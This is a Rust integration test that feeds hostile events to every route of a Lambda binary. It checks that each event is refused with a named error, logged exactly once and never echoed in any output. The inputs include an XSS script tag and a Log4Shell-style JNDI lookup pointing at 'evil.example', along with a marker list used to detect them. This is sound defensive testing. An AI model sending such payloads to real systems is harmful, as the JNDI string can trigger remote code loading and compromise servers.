//! The real Lambda binary (`steward`) against a fake Lambda Runtime API: every route is fed
//! hostile events (a script tag, a JNDI lookup, control characters, 300 KB; as whole payloads
//! and inside the route's first sample), each one answered on `/error` with a stable Steward
//! error name. What the binary prints is what CloudWatch would keep, so this is where "each
//! failure is logged once, as one JSON line with the error name, quoting no input" is held:
//! the handler's line, and not a second one from the runtime's layers.

use std::collections::VecDeque;
use std::process::Stdio;
use std::sync::Arc;
use std::time::Duration;

use axum::Router;
use axum::body::Bytes;
use axum::extract::{Path, State};
use axum::http::{HeaderMap, HeaderValue, StatusCode};
use axum::response::IntoResponse;
use axum::routing::{get, post};
use serde_json::{Value, json};
use std::io::Read;
use tokio::sync::{Mutex, Notify};

fn root() -> std::path::PathBuf {
    std::path::PathBuf::from(concat!(env!("CARGO_MANIFEST_DIR"), "/.."))
}

fn hostile() -> Vec<String> {
    vec![
        "<script>alert(1)</script>".to_owned(),
        "${jndi:ldap://evil.example/a}".to_owned(),
        "\u{0}\u{1b}[31mred\r\n\u{7f}".to_owned(),
        "A".repeat(300 * 1024),
    ]
}

/// What must never appear in an answer or a log line: each hostile string's telling part,
/// as the JSON of a log line or an error body would carry it (control characters escaped).
fn markers() -> Vec<&'static str> {
    vec![
        "<script>",
        "jndi:",
        "\\u001b",
        "\u{1b}",
        "\\u0000",
        "\\u007f",
        "\u{7f}",
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
    ]
}

/// Events for one route: each hostile string as a whole payload (a string, in an array, as a
/// key and value) and in place of every string of the route's first sample, kept only where
/// the route's own input check refuses it (an accepted one would go on to AWS).
fn events_for(route: &steward_functions::Route) -> Vec<Value> {
    let mut out = Vec::new();
    for h in hostile() {
        out.push(Value::String(h.clone()));
        out.push(json!([h.clone()]));
        out.push(json!({ h.clone(): h.clone() }));
    }
    if let Some(path) = route.samples.first() {
        let text = std::fs::read_to_string(root().join(path)).expect("sample");
        let sample: Value = serde_json::from_str(&text).expect("sample JSON");
        let mut strings = Vec::new();
        leaves(&sample, String::new(), &mut strings);
        for h in hostile() {
            for p in &strings {
                let mut v = sample.clone();
                *v.pointer_mut(p).expect("a string leaf") = Value::String(h.clone());
                if (route.input)(v.clone()).is_err() {
                    out.push(v);
                }
            }
        }
    }
    out
}

fn leaves(v: &Value, at: String, out: &mut Vec<String>) {
    match v {
        Value::String(_) => out.push(at),
        Value::Object(m) => {
            for (k, x) in m {
                leaves(
                    x,
                    format!("{at}/{}", k.replace('~', "~0").replace('/', "~1")),
                    out,
                );
            }
        }
        Value::Array(a) => {
            for (i, x) in a.iter().enumerate() {
                leaves(x, format!("{at}/{i}"), out);
            }
        }
        _ => {}
    }
}

/// The fake Runtime API: hands out `pending` events on `/next` (and holds the last poll open
/// once they are gone, as Lambda does between invocations), records every answer.
#[derive(Default)]
struct Runtime {
    pending: Mutex<VecDeque<(String, Value)>>,
    answers: Mutex<Vec<Answer>>,
    answered: Notify,
    /// The bodies of the PutEvents calls the binary made.
    published: Mutex<Vec<String>>,
}

#[derive(Debug)]
struct Answer {
    request_id: String,
    error: bool,
    body: String,
}

async fn next(State(rt): State<Arc<Runtime>>) -> impl IntoResponse {
    let Some((id, event)) = rt.pending.lock().await.pop_front() else {
        std::future::pending::<()>().await;
        unreachable!("the test kills the binary");
    };
    let mut headers = HeaderMap::new();
    headers.insert(
        "lambda-runtime-aws-request-id",
        HeaderValue::from_str(&id).unwrap(),
    );
    headers.insert(
        "lambda-runtime-deadline-ms",
        HeaderValue::from_static("4102444800000"),
    );
    headers.insert(
        "lambda-runtime-invoked-function-arn",
        HeaderValue::from_static("arn:aws:lambda:us-east-1:123456789012:function:steward-test"),
    );
    (headers, event.to_string())
}

async fn answer(
    State(rt): State<Arc<Runtime>>,
    Path((id, kind)): Path<(String, String)>,
    body: Bytes,
) -> StatusCode {
    rt.answers.lock().await.push(Answer {
        request_id: id,
        error: kind == "error",
        body: String::from_utf8_lossy(&body).into_owned(),
    });
    rt.answered.notify_one();
    StatusCode::ACCEPTED
}

/// EventBridge's PutEvents (awsJson1_1), accepting every entry and keeping what was sent.
async fn put_events(State(rt): State<Arc<Runtime>>, body: Bytes) -> impl IntoResponse {
    let sent: Value = serde_json::from_slice(&body).expect("PutEvents sends JSON");
    let n = sent["Entries"].as_array().map_or(0, Vec::len);
    rt.published
        .lock()
        .await
        .push(String::from_utf8_lossy(&body).into_owned());
    let entries: Vec<Value> = (0..n)
        .map(|i| json!({ "EventId": format!("e-{i}") }))
        .collect();
    (
        [("content-type", "application/x-amz-json-1.1")],
        json!({ "FailedEntryCount": 0, "Entries": entries }).to_string(),
    )
}

async fn init_error(body: Bytes) -> StatusCode {
    panic!(
        "the binary failed its cold start: {}",
        String::from_utf8_lossy(&body)
    );
}

/// The table, in dynoxide (in memory), as the deployed functions have it.
struct Table {
    endpoint: String,
    server: tokio::task::JoinHandle<Result<(), String>>,
}

impl Table {
    async fn start() -> Self {
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let endpoint = format!("http://{}", listener.local_addr().unwrap());
        let db = dynoxide::Database::memory().expect("an in-memory database");
        let server = tokio::spawn(dynoxide::server::serve_with_shutdown(
            listener,
            db,
            std::future::pending::<()>(),
        ));
        let config = aws_config::SdkConfig::builder()
            .behavior_version(aws_config::BehaviorVersion::latest())
            .region(aws_config::Region::new("us-east-1"))
            .endpoint_url(&endpoint)
            .credentials_provider(
                aws_credential_types::provider::SharedCredentialsProvider::new(
                    aws_credential_types::Credentials::new("test", "test", None, None, "test"),
                ),
            )
            .http_client(steward_shared::aws::https_client())
            .build();
        let client = aws_sdk_dynamodb::Client::new(&config);
        steward_shared::store::schema::create_table(&client, "steward-test")
            .await
            .expect("the table");
        Self { endpoint, server }
    }
}

struct Run {
    answers: Vec<Answer>,
    output: String,
    published: Vec<String>,
}

/// Starts the binary on `handler`, feeds it `events`, waits for every answer, stops it and
/// returns the answers and everything it printed (stdout and stderr).
async fn run_binary(handler: &str, events: Vec<Value>) -> Run {
    let rt = Arc::new(Runtime::default());
    let count = events.len();
    {
        let mut pending = rt.pending.lock().await;
        for (i, e) in events.into_iter().enumerate() {
            pending.push_back((format!("req-{i}"), e));
        }
    }
    let app = Router::new()
        .route("/2018-06-01/runtime/invocation/next", get(next))
        .route("/2018-06-01/runtime/invocation/{id}/{kind}", post(answer))
        .route("/2018-06-01/runtime/init/error", post(init_error))
        .route("/events", post(put_events))
        .route("/events/", post(put_events))
        .with_state(rt.clone());
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    let server = tokio::spawn(async move { axum::serve(listener, app).await });
    let table = Table::start().await;

    let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_steward"))
        .env_clear()
        .env("PATH", std::env::var("PATH").unwrap_or_default())
        .env("AWS_LAMBDA_RUNTIME_API", addr.to_string())
        .env("AWS_LAMBDA_FUNCTION_NAME", "steward-test")
        .env("AWS_LAMBDA_FUNCTION_MEMORY_SIZE", "512")
        .env("AWS_LAMBDA_FUNCTION_VERSION", "$LATEST")
        .env("AWS_LAMBDA_LOG_STREAM_NAME", "test")
        .env("AWS_LAMBDA_LOG_GROUP_NAME", "/aws/lambda/steward-test")
        .env("_HANDLER", handler)
        .env("AWS_REGION", "us-east-1")
        .env("AWS_ACCESS_KEY_ID", "test")
        .env("AWS_SECRET_ACCESS_KEY", "test")
        // Nothing listens there: an event that got past its input check would fail fast.
        .env("AWS_ENDPOINT_URL", "http://127.0.0.1:9")
        // A refused partner event is recorded in the table and announced on the bus before
        // the invocation fails.
        .env("AWS_ENDPOINT_URL_DYNAMODB", &table.endpoint)
        .env(
            "AWS_ENDPOINT_URL_EVENTBRIDGE",
            format!("http://{addr}/events"),
        )
        .env("STEWARD_TABLE_NAME", "steward-test")
        .env("STEWARD_EVENT_BUS_NAME", "steward-partner")
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("the steward binary starts");
    let mut stdout = child.stdout.take().unwrap();
    let mut stderr = child.stderr.take().unwrap();
    let out = std::thread::spawn(move || {
        let mut s = String::new();
        stdout.read_to_string(&mut s).map(|_| s)
    });
    let err = std::thread::spawn(move || {
        let mut s = String::new();
        stderr.read_to_string(&mut s).map(|_| s)
    });

    let answered = tokio::time::timeout(Duration::from_secs(120), async {
        loop {
            let waiting = rt.answered.notified();
            if rt.answers.lock().await.len() >= count {
                break;
            }
            waiting.await;
        }
    })
    .await;
    child.kill().expect("stop the binary");
    child.wait().expect("the binary stopped");
    server.abort();
    table.server.abort();
    let output = format!(
        "{}{}",
        out.join().unwrap().unwrap(),
        err.join().unwrap().unwrap()
    );
    if answered.is_err() {
        let tail: String = output.chars().rev().take(3000).collect();
        panic!(
            "{handler}: the binary did not answer every event; it printed (end):\n{}",
            tail.chars().rev().collect::<String>()
        );
    }
    let answers = std::mem::take(&mut *rt.answers.lock().await);
    let published = std::mem::take(&mut *rt.published.lock().await);
    Run {
        answers,
        output,
        published,
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_failure_is_named_and_logged_once_quoting_no_input() {
    let markers = markers();
    let mut total = 0;
    for route in steward_functions::routes() {
        let events = events_for(&route);
        let sent = events.len();
        let run = run_binary(route.name, events).await;
        assert_eq!(
            run.answers.len(),
            sent,
            "{}: one answer per event",
            route.name
        );
        for a in &run.answers {
            assert!(a.error, "{}: {} was accepted", route.name, a.request_id);
            let body: Value = serde_json::from_str(&a.body).expect("an error body is JSON");
            let name = body["errorType"].as_str().unwrap_or_default();
            assert!(
                name.starts_with("Steward."),
                "{}: unnamed error {name:?}",
                route.name
            );
            for m in &markers {
                assert!(
                    !a.body.contains(m),
                    "{}: an error answer quotes its input",
                    route.name
                );
            }
        }
        for m in &markers {
            assert!(
                !run.published.iter().any(|p| p.contains(m)),
                "{}: an outbound event quotes its input",
                route.name
            );
            assert!(
                !run.output.contains(m),
                "{}: a log line quotes its input: {}",
                route.name,
                run.output
                    .lines()
                    .find(|l| l.contains(m))
                    .unwrap_or_default()
                    .chars()
                    .take(300)
                    .collect::<String>()
            );
        }
        // One log line per failure, JSON, carrying the error's stable name; nothing else at
        // ERROR level (the runtime's own `Diagnostic { .. }` line is the duplicate we drop).
        let failures: Vec<Value> = run
            .output
            .lines()
            .filter_map(|l| serde_json::from_str::<Value>(l).ok())
            .filter(|v| v["level"] == "ERROR")
            .collect();
        assert_eq!(
            failures.len(),
            sent,
            "{}: one error line per failure:\n{}",
            route.name,
            run.output.chars().take(2000).collect::<String>()
        );
        for f in &failures {
            assert_eq!(f["fields"]["handler"], route.name, "{f}");
            assert!(
                f["fields"]["error_type"]
                    .as_str()
                    .is_some_and(|n| n.starts_with("Steward.")),
                "{f}"
            );
        }
        assert!(
            !run.output.contains("Diagnostic {"),
            "{}: the runtime logged the failure a second time",
            route.name
        );
        total += sent;
    }
    assert!(total > 500, "only {total} hostile events were sent");
}
